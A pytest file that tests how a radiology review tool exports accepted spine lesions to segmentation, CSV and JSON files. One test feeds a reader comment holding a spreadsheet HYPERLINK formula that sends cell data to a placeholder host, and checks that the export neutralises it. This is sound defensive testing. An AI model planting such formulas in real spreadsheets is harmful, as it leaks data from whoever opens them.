"""What a reader takes home: the accepted lesions and all verdicts, as other programs find them."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime, timezone
from itertools import product
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import SimpleITK as sitk
from hypothesis import given
from hypothesis import strategies as st
from scipy.spatial.transform import Rotation

from helpers.findings import RUN as UNNAMED
from helpers.findings import ball, make_grid, make_result
from hideseekseg.errors import InputError
from hideseekseg.imaging.reading import read_segmentation
from hideseekseg.imaging.volume import Grid, Patch, measure_patch
from hideseekseg.output.review_export import (
    EXPORTED,
    NoVoxelsError,
    export_accepted,
    measured_item,
)
from hideseekseg.output.seg_nrrd import write_segmentation
from hideseekseg.output.segment_description import TYPE_COLOURS
from hideseekseg.output.tables import POSITION_COLUMNS
from hideseekseg.review.review import Review

RUN = {**UNNAMED, "scan": {"name": "ct", "sha256": "1a2b3c4d" * 8}}
GRID = make_grid((75, 60, 50), (1.2, 1.1, 2.0))
WHEN = datetime(2026, 11, 24, 9, 30, 12, 500, timezone.utc)
METASTASIS = "SCT^14799000^Neoplasm, Secondary"
READER = "Dr. Zoë Müller"

Patches = dict[str, Patch]


@pytest.fixture
def review() -> Review:
    """Accepted, accepted after a switch, rejected, left open, and added by the reader."""
    review = Review(0.5)
    for vertebra in make_result(GRID).vertebrae:
        review.add_vertebra(vertebra)
    review.judge("T10-1", "accepted")
    review.comment("T10-1", "sclerotic | typical: yes")
    review.switch_type("T10-3")
    review.judge("T10-3", "accepted")
    review.judge("T10-2", "rejected")
    review.add_missed("T11", "lytic")
    return review


@pytest.fixture
def patches() -> Patches:
    found = [c for v in make_result(GRID).vertebrae for c in v.candidates]
    drawn = ball(GRID, (3.0, -2.0, 15.0), 4.0)
    return {c.id: c.patch for c in found if c.patch} | {"T11-added-1": drawn}


@pytest.fixture
def exported(review: Review, patches: Patches, tmp_path: Path) -> Path:
    folder = tmp_path / "Befund 骨"
    files = export_accepted(folder, review, patches, GRID, RUN, READER, WHEN)
    assert files == tuple(folder / name for name in EXPORTED)
    assert sorted(path.name for path in folder.iterdir()) == sorted(EXPORTED)
    return folder


def header(path: Path) -> dict[str, str]:
    image = sitk.ReadImage(str(path))
    return {key: image.GetMetaData(key) for key in image.GetMetaDataKeys()}


def tags(fields: dict[str, str], number: int) -> dict[str, str]:
    pairs = fields[f"Segment{number}_Tags"].rstrip("|").split("|")
    return {key: value for key, _, value in (pair.partition(":") for pair in pairs)}


def rows(folder: Path) -> list[dict[str, str]]:
    with (folder / "accepted.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_diameter_is_that_of_the_voxels() -> None:
    grid = make_grid((40, 40, 40), (1.0, 0.5, 2.0))
    for radius in (3.0, 12.0):
        size = measure_patch(ball(grid, (0.0, 0.0, 0.0), radius), grid)
        # Voxels whose middles are within the radius reach half of their own diagonal beyond it.
        assert 2 * radius < size.diameter_mm < 2 * radius + np.linalg.norm(grid.spacing)
    line = np.zeros((3, 3, 30), bool)
    line[1, 1, :] = True
    assert measure_patch(Patch(line, (0, 0, 0)), grid).diameter_mm == pytest.approx(30.0, abs=0.1)
    one = measure_patch(Patch(np.ones((1, 1, 1), bool), (5, 5, 5)), grid)
    assert one.diameter_mm == pytest.approx(np.sqrt(1.0**2 + 0.5**2 + 2.0**2))
    large = ball(make_grid((60, 60, 60), (1.0, 1.0, 1.0)), (0.0, 0.0, 0.0), 28.0)
    plain = make_grid((60, 60, 60), (1.0, 1.0, 1.0))
    assert 56.0 < measure_patch(large, plain).diameter_mm < 56.0 + np.sqrt(3)


@pytest.mark.parametrize("slice_mm", [0.7, 1.0, 3.0, 5.0])
def test_a_diameter_does_not_depend_on_the_thickness_of_slices(slice_mm: float) -> None:
    """A block of 6 x 6 x 15 mm, in as many slices as it takes."""
    grid = make_grid((30, 20, 20), (0.6, 0.6, slice_mm))
    block = np.ones((round(15 / slice_mm), 10, 10), bool)
    height = len(block) * slice_mm
    size = measure_patch(Patch(block, (3, 4, 5)), grid)
    assert size.diameter_mm == pytest.approx(np.sqrt(height**2 + 6**2 + 6**2))


@given(data=st.data())
def test_a_diameter_is_the_largest_distance_between_corners(data: st.DataObject) -> None:
    rng = np.random.default_rng(data.draw(st.integers(0, 2**32)))
    spacing = tuple(rng.uniform(0.4, 6.0, 3))
    mask = rng.random(rng.integers(1, 6, 3)) < rng.uniform(0.1, 1.0)
    mask.flat[rng.integers(mask.size)] = True
    turn = Rotation.random(random_state=int(rng.integers(2**31))).as_matrix()
    matrix = np.eye(4)
    matrix[:3, :3] = turn * spacing
    grid = Grid((9, 9, 9), matrix)
    corners = np.argwhere(mask)[:, None, ::-1] + np.array(list(product((-0.5, 0.5), repeat=3)))
    points = grid.lps(corners.reshape(-1, 3))
    expected = np.linalg.norm(points[:, None] - points[None], axis=-1).max()
    assert measure_patch(Patch(mask, (1, 2, 3)), grid).diameter_mm == pytest.approx(expected)


def test_voxels_without_a_value_do_not_count_in_a_mean(review: Review, patches: Patches) -> None:
    """Else the review that was saved with NaN could not be read again."""
    item, patch = review.item("T10-1"), patches["T10-1"]
    hounsfield = np.full(GRID.shape, 40.0, np.float32)
    at = tuple(np.argwhere(patch.array)[0] + patch.start)
    hounsfield[at] = np.nan
    measured = measured_item(item, patch, GRID, hounsfield)
    assert measured.mean_hu == 40.0
    hounsfield[:] = np.nan
    measured = measured_item(item, patch, GRID, hounsfield)
    assert measured.mean_hu is None
    review.measure(item.id, measured)
    assert Review.from_json(json.loads(json.dumps(review.to_json(), allow_nan=False))).item(
        item.id
    ) == review.item(item.id)


def test_an_outline_moved_elsewhere_keeps_no_mean_of_its_old_place(
    review: Review, patches: Patches
) -> None:
    item, patch = review.item("T10-1"), patches["T10-1"]
    item = replace(measured_item(item, patch, GRID), mean_hu=512.0)
    assert measured_item(item, patch, GRID).mean_hu == 512.0
    k, j, i = patch.start
    assert measured_item(item, replace(patch, start=(k, j, i + 3)), GRID).mean_hu is None


def test_the_segmentation_holds_what_was_accepted_and_nothing_else(
    exported: Path, patches: Patches
) -> None:
    back = read_segmentation(exported / "accepted.seg.nrrd")
    assert back.grid.matches(GRID, 1e-6)
    names = {segment.id: segment.name for segment in back.segments}
    assert names == {
        "T10-1": "T10 blastic 1",
        "T10-3": "T10 blastic 3",
        "T11-added-1": "T11 lytic added 1",
    }
    for segment in back.segments:
        expected = np.zeros(GRID.shape, bool)
        patches[segment.id].paint(expected)
        np.testing.assert_array_equal(back.mask(segment), expected)


def test_accepted_segments_say_metastasis_and_who_they_are(exported: Path) -> None:
    fields = header(exported / "accepted.seg.nrrd")
    first, switched, added = (tags(fields, n) for n in range(3))
    assert first["HideSeekSeg.Verdict"] == "accepted"
    assert first["HideSeekSeg.Comment"] == "sclerotic   typical  yes"
    assert first["Segmentation.Status"] == "completed"
    assert first["HideSeekSeg.Score"] == "0.9100"
    for said in (first, switched, added):
        parts = said["TerminologyEntry"].split("~")
        assert parts[2] == METASTASIS
    assert parts[5].endswith("^T11 vertebra")
    assert switched["HideSeekSeg.Type"] == "blastic"
    assert added["HideSeekSeg.Score"] == "", "a lesion that a human drew has no score"
    colour = [float(c) for c in fields["Segment2_Color"].split()]
    assert colour == pytest.approx(TYPE_COLOURS["lytic"])


def test_what_nobody_reviewed_is_still_a_lesion_of_unknown_nature(tmp_path: Path) -> None:
    write_segmentation(tmp_path / "lesions.seg.nrrd", GRID, make_result(GRID))
    said = tags(header(tmp_path / "lesions.seg.nrrd"), 0)
    assert said["TerminologyEntry"].split("~")[2] == "SCT^52988006^Lesion"
    assert said["HideSeekSeg.Verdict"] == "unreviewed"
    assert said["Segmentation.Status"] == "notstarted"


def test_the_spreadsheet_has_a_row_per_accepted_lesion(exported: Path, patches: Patches) -> None:
    first, switched, added = rows(exported)
    assert (first["name"], first["score"], first["level"]) == ("T10 blastic 1", "0.91", "T10")
    assert first["comment"] == "sclerotic | typical: yes"
    assert {row["reviewer"] for row in rows(exported)} == {READER}
    assert {row["reviewed"] for row in rows(exported)} == {"2026-11-24T09:30:12+00:00"}
    assert (switched["id"], switched["type"]) == ("T10-3", "blastic")
    assert (added["score"], added["added_by_reader"]) == ("", "True")
    volume = patches["T11-added-1"].array.sum() * GRID.voxel_mm3
    assert float(added["volume_mm3"]) == pytest.approx(volume)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_no_comment_becomes_a_formula_of_a_spreadsheet(
    review: Review, patches: Patches, tmp_path: Path, start: str
) -> None:
    comment = f'{start}HYPERLINK("http://elsewhere.example/?"&A1,"click")'
    review.comment("T10-1", comment)
    export_accepted(tmp_path, review, patches, GRID, RUN, READER, WHEN)
    first, switched, _ = rows(tmp_path)
    assert first["comment"] == f"'{comment}"
    numbers = [float(switched[name]) for name in POSITION_COLUMNS]
    assert min(numbers) < 0, "a negative number stays one"
    review.comment("T10-1", f"{start}1.5")
    export_accepted(tmp_path, review, patches, GRID, RUN, READER, WHEN)
    number = f"{start}1.5" if start in "+-" else f"'{start}1.5"
    assert rows(tmp_path)[0]["comment"] == number


def test_size_and_place_are_those_of_the_corrected_voxels(
    review: Review, patches: Patches, tmp_path: Path
) -> None:
    """The reader may have erased half of a segment before exporting."""
    whole = patches["T10-1"]
    half = whole.array.copy()
    half[: len(half) // 2] = False
    patches["T10-1"] = Patch(half, whole.start)
    export_accepted(tmp_path, review, patches, GRID, RUN, READER, WHEN)
    row = rows(tmp_path)[0]
    at = GRID.lps((np.argwhere(half) + whole.start)[:, ::-1]).mean(axis=0)
    assert [float(row[f"{axis}_lps_mm"]) for axis in "xyz"] == pytest.approx(list(at))
    assert float(row["volume_mm3"]) == pytest.approx(half.sum() * GRID.voxel_mm3)


def test_the_protocol_has_every_verdict_and_what_was_used(exported: Path) -> None:
    data = json.loads((exported / "review.json").read_text("utf-8"))
    assert data["reviewer"] == READER
    assert data["reviewed"] == "2026-11-24T09:30:12+00:00"
    assert data["run"]["weights_hash"] == RUN["weights_hash"]
    assert data["threshold"] == 0.5
    verdicts = {lesion["id"]: lesion["verdict"] for lesion in data["lesions"]}
    assert verdicts == {
        "T10-1": "accepted",
        "T10-2": "rejected",
        "L1-1": "unreviewed",
        "T10-3": "accepted",
        "T11-added-1": "accepted",
    }
    assert {v["level"]: v["status"] for v in data["vertebrae"]}["T12"] == "not analysed"
    assert data["summary"].startswith("4 vertebrae, 3 with findings, 3 accepted, 1 to review")


def test_a_rejected_addition_is_not_exported(
    review: Review, patches: Patches, tmp_path: Path
) -> None:
    review.judge("T11-added-1", "rejected")
    del patches["T11-added-1"]
    export_accepted(tmp_path, review, patches, GRID, RUN, READER, WHEN)
    assert [row["id"] for row in rows(tmp_path)] == ["T10-1", "T10-3"]


def test_nothing_accepted_is_a_result_too(tmp_path: Path) -> None:
    export_accepted(tmp_path, Review(), {}, GRID, RUN, READER, WHEN)
    assert rows(tmp_path) == []
    assert "Segment0_ID" not in header(tmp_path / "accepted.seg.nrrd")
    assert json.loads((tmp_path / "review.json").read_text("utf-8"))["lesions"] == []


def test_the_same_review_gives_the_same_bytes(
    review: Review, patches: Patches, exported: Path, tmp_path: Path
) -> None:
    again = export_accepted(tmp_path / "again", review, patches, GRID, RUN, READER, WHEN)
    for path in again:
        assert path.read_bytes() == (exported / path.name).read_bytes()


@pytest.mark.parametrize("empty", [False, True])
def test_an_addition_without_voxels_is_named_and_nothing_is_written(
    empty: bool, review: Review, patches: Patches, tmp_path: Path
) -> None:
    del patches["T11-added-1"]
    if empty:
        patches["T11-added-1"] = Patch(np.zeros((2, 2, 2), bool), (0, 0, 0))
    with pytest.raises(NoVoxelsError, match=r"^T11 lytic added 1: nothing is drawn"):
        export_accepted(tmp_path / "out", review, patches, GRID, RUN, READER, WHEN)
    assert not (tmp_path / "out").exists()


def _a_file(folder: Path) -> None:
    folder.write_text("mine")


def _a_folder_in_the_way(folder: Path) -> None:
    (folder / "review.json").mkdir(parents=True)


@pytest.mark.parametrize("obstacle", [_a_file, _a_folder_in_the_way])
def test_what_cannot_be_written_is_one_line(
    obstacle: Callable[[Path], None], review: Review, patches: Patches, tmp_path: Path
) -> None:
    folder = tmp_path / "out"
    obstacle(folder)
    with pytest.raises(InputError) as refused:
        export_accepted(folder, review, patches, GRID, RUN, READER, WHEN)
    assert str(folder) in str(refused.value)
    assert "\n" not in str(refused.value)


def test_a_number_that_json_lacks_leaves_older_files(
    review: Review, patches: Patches, exported: Path
) -> None:
    before = {path: path.read_bytes() for path in exported.iterdir()}
    odd: dict[str, Any] = {**RUN, "seconds": float("nan")}
    with pytest.raises(ValueError, match="JSON"):
        export_accepted(exported, review, patches, GRID, odd, READER, WHEN)
    assert {path: path.read_bytes() for path in exported.iterdir()} == before
